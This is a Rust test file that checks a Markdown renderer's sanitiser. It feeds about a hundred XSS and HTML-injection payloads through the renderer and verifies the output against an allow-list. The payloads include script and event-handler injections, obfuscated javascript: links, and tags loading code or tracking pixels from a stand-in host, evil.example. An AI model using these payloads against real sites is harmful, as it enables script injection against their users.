//! What somebody might write into a note to make a page act, load or mislead. None of it may become more than text.

use super::*;

const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "a <script>alert(1)</script> b",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=data:text/html,x>",
    "<body onload=alert(1)>",
    "<style>@import '//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=//evil.example><button>Go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"https://evil.example\" target=_blank>x</a>",
    "<textarea><script>alert(1)</script></textarea>",
    "</p></main></body><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<!-->-->\n<script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](%6A%61vascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\u{1}javascript:alert(1))",
    "[x](\u{200B}javascript:alert(1))",
    "[x](< javascript:alert(1)>)",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\\\\\evil.example)",
    "[x](/&Tab;/evil.example)",
    "[x](file:///etc/passwd)",
    "[x](http:javascript:alert(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[r]\n\n[r]: <javascript:alert(1)> \"t\"",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x\" onerror=\"alert(1)](static/a.png)",
    "![x](static/a.png\" onerror=\"alert(1))",
    "![x](static/a.png \"t\\\" onerror=\\\"alert(1)\")",
    "[x](a.md \"\\\" onmouseover=\\\"alert(1)\")",
    "[x](a.md'onmouseover='alert(1))",
    "[x](<a.md\" onmouseover=\"alert(1)>)",
    "[x](https://e.example/\"onmouseover=\"alert(1))",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "# x\" onclick=\"alert(1)",
    "# x {onclick=alert(1)}",
    "# <img src=x onerror=alert(1)>",
    "```x\"onclick=\"alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "~~~\n</code></pre><script>\n~~~",
    "`</code><script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| <script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "|a\" style=\"x|\n|:-:|\n|b|",
    "x[^\"><script>]\n\n[^\"><script>]: <script>alert(1)</script>",
    "x[^a]\n\n[^a]: [x](javascript:alert(1))",
    "- [x] <script>alert(1)</script>",
    "> <script>alert(1)\n> </script>",
    "1. <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)</script>",
    "<scr\0ipt>alert(1)</script>",
    "\u{FEFF}<script>alert(1)</script>",
    "<\u{FF53}cript>alert(1)",
    "＜script＞alert(1)＜/script＞",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "<p style=\"background:url(//evil.example)\">x</p>",
    "<a href=\"#\" id=\"main\" name=\"body\">clobber</a>",
    "{{ 7 * 7 }} {% include \"x\" %} ${alert(1)}",
];

/// Elements and attributes that may be in the output.
const ALLOWED: &[(&str, &[&str])] = &[
    ("a", &["href", "rel", "title", "id", "class", "aria-label"]),
    ("blockquote", &[]),
    ("br", &[]),
    ("code", &["class"]),
    ("del", &[]),
    ("em", &[]),
    ("h2", &["id"]),
    ("h3", &["id"]),
    ("h4", &["id"]),
    ("h5", &["id"]),
    ("h6", &["id"]),
    ("hr", &[]),
    ("img", &["src", "alt", "title", "loading"]),
    ("li", &["id", "value"]),
    ("ol", &["start"]),
    ("p", &["class"]),
    ("path", &["class", "d"]),
    ("pre", &[]),
    ("rect", &["class", "x", "y", "width", "height", "rx"]),
    ("section", &["class", "aria-label"]),
    ("span", &["class"]),
    ("strong", &[]),
    ("sup", &["class"]),
    ("svg", &["width", "height", "viewBox", "aria-hidden"]),
    ("table", &[]),
    ("tbody", &[]),
    ("td", &["class"]),
    ("th", &["scope", "class"]),
    ("thead", &[]),
    ("tr", &[]),
    ("ul", &[]),
];

/// Reads the output as a strict browser would, and fails at anything that is not named above.
fn inspect(html: &str) -> Result<(), String> {
    let mut rest = html;
    while let Some((text, after)) = rest.split_once('<') {
        if text.contains('>') || text.contains('"') {
            return Err(format!("unescaped text {text:?}"));
        }
        let Some((tag, tail)) = after.split_once('>') else { return Err(format!("open tag {after:?}")) };
        rest = tail;
        if let Some(name) = tag.strip_prefix('/') {
            ALLOWED.iter().find(|(n, _)| *n == name).ok_or(format!("end of {name}"))?;
            continue;
        }
        let (name, mut attributes) = tag.split_once(' ').unwrap_or((tag, ""));
        let name = name.trim_end_matches('/');
        let (_, allowed) = ALLOWED.iter().find(|(n, _)| *n == name).ok_or(format!("element {name:?}"))?;
        while !attributes.trim_end_matches('/').is_empty() {
            let (key, value) = attributes.split_once("=\"").ok_or(format!("attribute {attributes:?}"))?;
            let (value, more) = value.split_once('"').ok_or(format!("value {value:?}"))?;
            let key = key.trim_start();
            if !allowed.contains(&key) || value.contains('<') {
                return Err(format!("{name} {key}={value:?}"));
            }
            if matches!(key, "href" | "src") {
                address(value, key == "src")?;
            }
            attributes = more;
        }
    }
    if rest.contains('>') { Err(format!("unescaped text {rest:?}")) } else { Ok(()) }
}

fn address(value: &str, image: bool) -> Result<(), String> {
    let seen: String = value
        .replace("&#39;", "'")
        .replace("&quot;", "\"")
        .replace("&amp;", "&")
        .chars()
        .filter(char::is_ascii_graphic)
        .collect();
    let seen = seen.to_ascii_lowercase();
    let abroad = ["https://", "http://", "mailto:"].iter().any(|s| seen.starts_with(s));
    let head = seen.split(['/', '?', '#']).next().unwrap_or("");
    let local = !head.contains(':')
        && !head.contains("%3a")
        && !head.contains("%2f")
        && !head.contains('&')
        && !seen.starts_with("//");
    let fine = if image { local } else { abroad || local };
    if fine && !seen.contains('\\') { Ok(()) } else { Err(format!("address {value:?}")) }
}

#[test]
fn the_inspector_sees_what_it_should() {
    for bad in [
        "<script>",
        "<p onclick=\"x\">",
        "<a href=\"javascript:x\">",
        "<a href=\"//e\">",
        "<p",
        "a > b",
        "<td style=\"x\">",
    ] {
        assert!(inspect(bad).is_err(), "{bad}");
    }
}

#[test]
fn no_attack_becomes_more_than_text() {
    let link = |target: &str, _: bool| LinkAnswer::Href(target.to_owned());
    let context = MarkdownContext::new("n", &link);
    assert!(ATTACKS.len() >= 60);
    // Alone, and where a block of another kind is already open.
    for frame in [
        "{}",
        "x {} y",
        "- {}",
        "> {}",
        "| a |\n|---|\n| {} |",
        "# {}",
        "*{}*",
        "[{}](a.md)",
        "![{}](static/a.png)",
        "x[^q]\n\n[^q]: {}",
    ] {
        for attack in ATTACKS {
            let text = frame.replace("{}", attack);
            let out = render(&text, &context);
            if let Err(why) = inspect(&out.html) {
                panic!("{why}\nin {text:?}\ngave {}", out.html);
            }
            for problem in &out.problems {
                assert!(text.get(problem.span.range()).is_some(), "{text:?} {problem:?}");
            }
        }
    }
}

#[test]
fn random_joins_of_attacks() {
    let link = |target: &str, _: bool| LinkAnswer::Href(target.to_owned());
    let context = MarkdownContext::new("n", &link);
    let mut seed = 7_u64;
    let mut next = |below: usize| {
        seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (seed >> 33) as usize % below
    };
    for _ in 0..3000 {
        let mut text = String::new();
        for _ in 0..4 {
            let attack: Vec<char> = ATTACKS[next(ATTACKS.len())].chars().collect();
            let (a, b) = (next(attack.len() + 1), next(attack.len() + 1));
            text.extend(&attack[a.min(b)..a.max(b)]);
            text.push_str(["", "\n", "\n\n", " "][next(4)]);
        }
        let out = render(&text, &context);
        assert!(out.problems.iter().all(|p| p.kind != ProblemKind::Internal), "{text:?}");
        assert!(!is_harmless(&text) || out.problems.is_empty() && out.links.is_empty(), "{text:?}");
        if let Err(why) = inspect(&out.html) {
            panic!("{why}\nin {text:?}\ngave {}", out.html);
        }
    }
}
